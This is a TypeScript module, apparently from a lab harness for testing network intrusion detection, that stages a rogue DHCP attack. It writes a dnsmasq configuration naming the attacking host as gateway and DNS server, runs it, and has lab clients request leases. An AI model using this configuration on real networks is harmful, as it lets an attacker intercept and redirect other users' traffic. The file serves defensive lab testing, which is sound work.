import { join } from 'node:path';
import type { Attack, Intensity } from '../contracts.ts';
import type { LabHost } from '../lab.ts';
import { waitFor } from '../schedule.ts';
import { place } from '../services/daemon.ts';
import { runAndRestore } from './interception.ts';

const serverPort = 67;
/** What it gives away: not what the router does. */
const leases = Array.from({ length: 40 }, (_, index) => `192.0.2.${index + 201}`);
const askSeconds = 6;
const restoreSeconds = 2;
const pausesBetween: Readonly<Record<Intensity, number>> = { quiet: 60, medium: 12, loud: 4 };

/** dnsmasq on a stranger's machine gives addresses too, with itself as the way out and as the source of names. */
export const rogueDhcp: Attack = {
  kind: 'rogue-dhcp',
  summary: 'a second server gives out addresses, with another gateway',
  needs: ['dnsmasq', 'dhclient'],
  intensities: ['medium', 'loud'],
  actor: 'guest',
  targets: ['desktop', 'laptop'],
  async run({ intensity, actor, targets, seconds, signal }) {
    const lines = [
      ...['keep-in-foreground', 'user=root', 'port=0', 'interface=eth0', 'no-ping', 'dhcp-authoritative'],
      `dhcp-range=${leases[0]},${leases.at(-1)},255.255.255.0,2m`,
      `dhcp-option=option:router,${actor.address}`,
      `dhcp-option=option:dns-server,${actor.address}`,
      `dhcp-leasefile=${join(actor.folder, 'rogue-leases')}`,
      `pid-file=${join(actor.folder, 'rogue.pid')}`,
      '',
    ];
    const path = place(actor, 'rogue', 'dnsmasq.conf', lines.join('\n'));
    const limits = { seconds: Math.max(1, seconds - 1), restoreSeconds, signal };
    const over = new AbortController();
    const server = runAndRestore(actor, 'dnsmasq', [`--conf-file=${path}`], limits);
    const clients = clientsAsk(targets, pausesBetween[intensity], over.signal);
    await server;
    over.abort();
    await clients;
    return {
      tool: 'dnsmasq',
      arguments: `dhcp-range=${leases[0]},${leases.at(-1)} dhcp-option=option:router,${actor.address}`,
      claims: [
        { actors: [actor.address], protocol: 'udp', actorPorts: [serverPort] },
        { actors: [actor.address], targets: leases, protocol: 'arp' },
      ],
    };
  },
};

/** Somebody has to ask while it stands there. What is offered is not used. */
async function clientsAsk(
  hosts: readonly LabHost[],
  pauseSeconds: number,
  signal: AbortSignal,
): Promise<void> {
  for (let round = 0; await waitFor(round === 0 ? 1 : pauseSeconds, signal); round += 1) {
    const host = hosts[round % hosts.length];
    if (host === undefined) return;
    const script = place(host, 'asking', 'script.sh', '#!/bin/sh\nexit 0\n');
    await host.machine.attempt('chmod', ['755', script]);
    const file = (name: string): string => join(host.folder, 'asking', `${name}-${round}`);
    const words = ['-4', '-1', '-d', '-sf', script, '-lf', file('leases'), '-pf', file('pid'), 'eth0'];
    await host.machine.attempt('dhclient', words, { seconds: askSeconds, signal });
  }
}
